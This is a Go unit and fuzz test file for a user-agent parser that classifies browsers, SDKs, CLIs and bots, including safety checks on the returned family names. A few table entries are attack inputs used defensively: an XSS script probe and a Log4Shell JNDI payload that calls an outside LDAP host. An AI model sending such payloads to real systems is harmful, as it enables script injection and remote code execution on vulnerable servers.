package useragent

import (
	"bufio"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"

func TestParse(t *testing.T) {
	tests := []struct {
		name, ua     string
		family, kind string
	}{
		{"empty", "", "", ""},
		{"absent value of an access log", "-", "", ""},
		{"blanks only", " \t ", "", ""},
		{"Boto3", "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.1 md/arch#x86_64 lang/python#3.11.6", "Boto3", SDK},
		{"Botocore of a Lambda", "Botocore/1.31.57 Python/3.9.16 Linux/5.10", "Botocore", SDK},
		{"AWS SDK for Go v2", "aws-sdk-go-v2/1.30.0 os/linux lang/go#1.22 md/GOOS#linux", "aws-sdk-go-v2", SDK},
		{"AWS SDK for JavaScript", "aws-sdk-js/3.556.0 ua/2.0 os/linux#5.10 lang/js md/nodejs#20.12", "aws-sdk-js", SDK},
		{"AWS CLI", "aws-cli/2.15.30 Python/3.11.8 Linux/6.1 exe/x86_64", "aws-cli", CLI},
		{"Terraform behind APN", "APN/1.0 HashiCorp/1.0 Terraform/1.9.5 (+https://www.terraform.io) terraform-provider-aws/5.60", "Terraform", CLI},
		{"requests", "python-requests/2.31.0", "python-requests", SDK},
		{"aiohttp behind Python", "Python/3.11 aiohttp/3.9.1", "aiohttp", SDK},
		{"Python alone", "Python/3.11", "Python", SDK},
		{"urllib", "Python-urllib/3.11", "Python-urllib", SDK},
		{"okhttp", "okhttp/4.12.0", "okhttp", SDK},
		{"Apache HttpClient", "Apache-HttpClient/4.5.14 (Java/17.0.9)", "Apache-HttpClient", SDK},
		{"Java", "Java/1.8.0_392", "Java", SDK},
		{"Go", "Go-http-client/2.0", "Go-http-client", SDK},
		{"resty has a URL and is no bot", "go-resty/2.11.0 (https://github.com/go-resty/resty)", "go-resty", SDK},
		{"got has a URL and is no bot", "got (https://github.com/sindresorhus/got)", "got", SDK},
		{"faraday with a blank", "Faraday v2.7.4", "Faraday", SDK},
		{"axios", "axios/1.6.2", "axios", SDK},
		{"Dalvik", "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A)", "Dalvik", SDK},
		{"name of two words", "Symfony HttpClient/Curl", "Symfony HttpClient", SDK},
		{"curl", "curl/8.4.0", "curl", CLI},
		{"curl in capitals", "CURL/8.4.0", "curl", CLI},
		{"wget", "Wget/1.21.3", "Wget", CLI},
		{"Postman", "PostmanRuntime/7.36.0", "Postman", CLI},
		{"k6", "k6/0.49.0 (https://k6.io/)", "k6", CLI},
		{"PowerShell passes for a browser", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803", "PowerShell", CLI},
		{"Chrome", chrome, "Chrome", Browser},
		{"Firefox", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "Firefox", Browser},
		{"Safari on a phone", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1", "Safari", Browser},
		{"Edge", chrome + " Edg/131.0.0.0", "Edge", Browser},
		{"Samsung", "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", "Samsung Browser", Browser},
		{"phone named like a bot", "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", "Chrome", Browser},
		{"Opera Mini", "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54", "Opera Mini", Browser},
		{"Explorer with a toolbar's URL", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; http://bar.example.com) ", "Internet Explorer", Browser},
		{"Googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", Bot},
		{"Googlebot with Chrome", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/131.0.0.0 Safari/537.36", "Googlebot", Bot},
		{"GPTBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", Bot},
		{"bingbot", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "bingbot", Bot},
		{"Baiduspider", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "Baiduspider", Bot},
		{"CCBot without Mozilla", "CCBot/2.0 (https://commoncrawl.org/faq/)", "CCBot", Bot},
		{"Slackbot", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Slackbot-LinkExpanding", Other},
		{"UptimeRobot", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "UptimeRobot", Bot},
		{"Route 53", "Amazon-Route53-Health-Check-Service (ref 9d3b1f3e; report http://amzn.to/1vsZADi)", "Route 53 health check", Bot},
		{"load balancer", "ELB-HealthChecker/2.0", "ELB-HealthChecker", Bot},
		{"Kubernetes", "kube-probe/1.28", "kube-probe", Bot},
		{"Pingdom", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "Pingdom", Bot},
		{"headless Chrome", strings.Replace(chrome, "Chrome/", "HeadlessChrome/", 1), "HeadlessChrome", Bot},
		{"scanner", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "CensysInspect", Bot},
		{"scanner that passes for a browser", "Mozilla/5.0 zgrab/0.x", "zgrab", Bot},
		{"customer's application", "Brightwater-Dispatch/3.2.1 (build 881)", "Brightwater-Dispatch", Other},
		{"application of a phone", "ParcelApp/812 CFNetwork/1485 Darwin/23.1.0", "ParcelApp", Other},
		{"name without a version", "internal-tool", "internal-tool", Other},
		{"non-ASCII comment", "KestrelFleet/5.2 (München)", "KestrelFleet", Other},
		{"Mozilla alone", "Mozilla/5.0", "Mozilla", Other},
		{"markup", "<script>alert(1)</script>", Unnamed, Other},
		{"number", "12345", Unnamed, Other},
		{"log4shell", "${jndi:ldap://203.0.113.9/a}", Unnamed, Other},
		{"quote", `"quoted"`, Unnamed, Other},
		{"name too long", strings.Repeat("a", 65), Unnamed, Other},
		{"longest name", strings.Repeat("a", 64) + "/1", strings.Repeat("a", 64), Other},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			family, kind := Parse(tt.ua)
			assert.Equal(t, tt.family, family)
			assert.Equal(t, tt.kind, kind)
		})
	}
}

func TestParse_10KBHeader_onlyItsBeginningCounts(t *testing.T) {
	family, kind := Parse("curl/8.4.0 " + strings.Repeat("(;/:[]http://", 1000))
	assert.Equal(t, "curl", family)
	assert.Equal(t, CLI, kind)
}

func TestParse_browserCorpus_mostlyBrowsers(t *testing.T) {
	families, kinds := map[string]int{}, map[string]int{}
	for _, ua := range corpus(t) {
		family, kind := Parse(ua)
		families[family]++
		kinds[kind]++
	}
	// The corpus holds Firefox and its relatives, Opera Mini, and devices.
	assert.Equal(t, map[string]int{
		"Android browser": 2, "BlackBerry": 1, "BlackBerry9000": 1, "BrowserNG": 1, "Camino": 10,
		"Chrome": 4, "Firefox": 209, "Opera": 5, "Opera Mini": 197, "Safari": 2,
		"SeaMonkey": 27,
	}, families)
	assert.Equal(t, map[string]int{Browser: 458, Other: 1}, kinds)
}

func TestParse_naughtyStrings_safeFamilies(t *testing.T) {
	data, err := os.ReadFile("testdata/blns_part.json")
	require.NoError(t, err)
	var naughty []string
	require.NoError(t, json.Unmarshal(data, &naughty))
	require.Len(t, naughty, 129)
	for _, s := range naughty {
		for _, ua := range []string{s, "Mozilla/5.0 " + s, "Mozilla/5.0 (" + s + ") Chrome/1", s + "/1.0"} {
			checkSafe(t, ua)
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, ua := range []string{chrome, "curl/8", "Mozilla/5.0 (Linux; Android 9; tablet) http://", "a:http://", "[](;)/:"} {
		f.Add(ua)
	}
	cache := NewCache(16)
	f.Fuzz(func(t *testing.T, ua string) {
		checkSafe(t, ua)
		family, kind := Parse(ua)
		for range 2 {
			gotFamily, gotKind := cache.Parse([]byte(ua))
			assert.Equal(t, family, gotFamily)
			assert.Equal(t, kind, gotKind)
		}
	})
}

// checkSafe asserts what every caller relies on: a known kind, and a family
// that is short and holds no markup, quote or control character.
func checkSafe(t *testing.T, ua string) {
	t.Helper()
	family, kind := Parse(ua)
	if family == "" {
		assert.Empty(t, kind)
		assert.Contains(t, []string{"", "-"}, strings.TrimSpace(clip(ua)))
		return
	}
	assert.Contains(t, []string{Browser, SDK, CLI, Bot, Other}, kind)
	assert.LessOrEqual(t, len(family), maxFamily)
	for word := range strings.FieldsSeq(family) {
		assert.True(t, validFamily(word) || word == "53", "family %q of %q", family, ua)
	}
}

func corpus(t testing.TB) []string {
	t.Helper()
	file, err := os.Open("testdata/uap_core_firefox_opera.txt")
	require.NoError(t, err)
	defer file.Close()
	var lines []string
	for sc := bufio.NewScanner(file); sc.Scan(); {
		lines = append(lines, sc.Text())
	}
	require.Len(t, lines, 459)
	return lines
}
